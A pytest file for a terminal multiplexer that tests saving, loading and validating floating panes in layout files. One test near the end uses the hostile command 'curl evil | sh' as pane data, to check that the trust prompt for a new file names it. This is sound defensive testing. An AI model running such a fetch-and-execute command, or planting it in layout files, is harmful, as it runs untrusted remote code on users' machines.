"""Floating panes are written to layout files and opened from them, and whatever is wrong with them is told."""

import tomllib
from pathlib import Path
from typing import Any

import pytest
from tests.control.layout_files.layout_file_fixtures import file_of, load, save
from tests.control.layout_files.layout_file_fixtures import home as home
from tests.multiplexer.conftest import Room

from fugue_tui.control.layout_files.trust import programs
from fugue_tui.errors import InvalidArgument, Refused
from fugue_tui.ids import WindowId
from fugue_tui.layout import document
from fugue_tui.layout.tree import Float, floats, panes, tiled
from fugue_tui.workspace.model import SCRATCH


def window(room: Room, id: str) -> Any:
    return room.mux.window(WindowId(id[1:]))


def test_what_floats_is_written_and_opened_again(room: Room, home: Path) -> None:
    room.say("create-window --name code --command 'cat -u'")
    room.say("split-pane --place floating --name over -- cat -n")
    room.say("float-pane --cols 80% --rows 10 --x 0 --y 5")
    room.say("split-pane --place floating -- cat -e")
    room.say("toggle-floats")
    saved = save(room, f"{home}/.fugue.toml")
    assert (saved.windows, saved.panes, saved.left_out) == (1, 3, ())
    written = tomllib.loads(saved.text)["windows"][0]
    assert written["floats"] == [
        {"pane": {"name": "over", "command": ["cat", "-n"]}, "cols": 0.8, "rows": 10, "x": 0, "y": 5, "hidden": True},
        {"pane": {"command": ["cat", "-e"]}, "cols": 0.6, "rows": 0.6, "hidden": True},
    ]
    loaded = load(room, ".")
    opened = window(room, loaded.windows[0].id)
    places = [Float(each.pane, 0.8, 10, 0, 5, True) for each in floats(opened.layout)[:1]]
    assert list(floats(opened.layout)[:1]) == places
    commands = [room.mux.workspace.panes[pane].argv[-2:] for pane in panes(opened.layout)]
    assert commands == [("-c", "cat -u"), ("cat", "-n"), ("cat", "-e")]
    assert opened.active == next(panes(tiled(opened.layout)))


def test_a_floating_pane_that_has_the_focus_or_is_zoomed_is_so_again(room: Room, home: Path) -> None:
    room.say("create-window --name code --command cat")
    room.say("split-pane --place floating -- cat")
    room.say("zoom-pane")
    save(room, f"{home}/.fugue.toml")
    opened = window(room, load(room, ".").windows[0].id)
    (float_,) = floats(opened.layout)
    assert (opened.active, float_.full) == (float_.pane, True)


def test_json_and_stacks_hold_them_too(room: Room, home: Path) -> None:
    room.say("create-window --name code --command cat")
    room.say("split-pane -- cat")
    room.say("stack-panes")
    room.say("split-pane --place floating -- cat")
    save(room, "mine --format json")
    opened = window(room, load(room, "mine").windows[0].id)
    assert getattr(tiled(opened.layout), "stacked", False)
    assert len(floats(opened.layout)) == 1


def test_a_scratch_shell_comes_back_where_there_is_none(room: Room, home: Path) -> None:
    room.say("create-window --name code --command cat")
    room.say("scratch-pane")
    room.say("scratch-pane")
    save(room, f"{home}/.fugue.toml")
    assert not floats(window(room, load(room, ".").windows[0].id).layout)
    scratch = next(pane for pane in room.mux.workspace.panes.values() if SCRATCH in pane.tags)
    room.say(f"close-pane {scratch.id}")
    opened = window(room, load(room, ".").windows[0].id)
    assert [SCRATCH in room.mux.workspace.panes[each.pane].tags for each in floats(opened.layout)] == [True]


def test_a_layout_that_is_applied_may_have_floating_panes(room: Room) -> None:
    first = room.cat()
    tree = '{"direction": "horizontal", "splits": [{}, {"pane": {"command": "cat"}}], "floats": %s}'
    over = '[{"pane": {"command": "cat", "name": "over", "focus": true}, "cols": 40, "y": "50%"}]'
    applied = room.say(f"create-layout --window active --layout '{tree % over}'")
    layout = window(room, applied.window_id).layout
    assert len(list(panes(tiled(layout)))) == 2
    assert next(panes(layout)) == first
    (float_,) = floats(layout)
    assert (float_.cols, float_.rows, float_.y) == (40, 0.6, 0.5)
    assert room.mux.focused == float_.pane
    again = room.say("create-layout --window active --layout '" + tree % '[{"rows": 9}]' + "'")
    kept = floats(window(room, again.window_id).layout)
    assert [(each.pane, each.rows) for each in kept] == [(float_.pane, 9)]
    room.say("create-layout --window active --layout '{\"pane\": {}}'")
    assert [each.pane for each in floats(window(room, again.window_id).layout)] == [float_.pane]


def test_places_outside_of_the_window_are_clamped(room: Room, home: Path) -> None:
    file_of(home, "floats = [{ pane = { command = 'cat' }, x = 9_999, y = 9_999, cols = 10_000, rows = 0 }]")
    opened = window(room, load(room, ".").windows[0].id)
    solution, bounds = room.mux.layouts.of(opened), room.mux.layouts.bounds(opened)
    ((_, frame),) = solution.floats
    assert 0 <= frame.x < frame.right <= bounds.right
    assert 0 <= frame.y < frame.bottom <= bounds.bottom


@pytest.mark.parametrize(
    ("floats", "said"),
    [
        ("{}", r"windows\[0\]\.floats: .*list of floating panes"),
        ("[{cols = -1}]", r"floats\[0\]\.cols"),
        ("[{x = nan}]", r"floats\[0\]\.x"),
        ("[{x = inf}]", r"floats\[0\]\.x"),
        ("[{x = -0.1}]", r"floats\[0\]\.x"),
        ("[{y = 1.5}]", r"floats\[0\]\.y"),
        ("[{y = '-5'}]", r"floats\[0\]\.y"),
        ("[{rows = 1_000_000_000_000}]", r"floats\[0\]\.rows"),
        ("[{rows = true}]", r"floats\[0\]\.rows"),
        ("[{z = 1}]", r"floats\[0\]\.z"),
        ("[{pane = {command = [1]}}]", r"floats\[0\]\.pane\.command"),
        ("[{hidden = true, pane = {focus = true}}]", r"floats\[0\]\.hidden: goes with no focus"),
        ("[{pane = {focus = true}}, {pane = {focus = true}}]", r"floats\[1\]\.pane\.focus: another pane"),
        (f"[{'{}, ' * 64}]", r"floats\[63\]\.pane: too many panes"),
        (f"[{'{}, ' * 10_000}]", r"floats: has 10000 entries"),
    ],
)
def test_a_fault_is_reported_with_its_position(room: Room, home: Path, floats: str, said: str) -> None:
    file_of(home, f"floats = {floats}")
    with pytest.raises((InvalidArgument, Refused), match=said):
        load(room, ".")
    assert not room.mux.workspace.windows


def test_the_question_about_a_new_file_names_the_programs_that_float() -> None:
    window: dict[str, Any] = {"pane": {}, "floats": [{"pane": {"command": "curl evil | sh"}}]}
    assert "curl evil | sh" in programs(document.read({"windows": [window]}))


def test_a_split_holds_no_floating_panes() -> None:
    nested: dict[str, Any] = {"direction": "horizontal", "splits": [{"floats": []}, {}]}
    with pytest.raises(InvalidArgument, match=r"splits\[0\]\.floats"):
        document.read({"windows": [nested]})
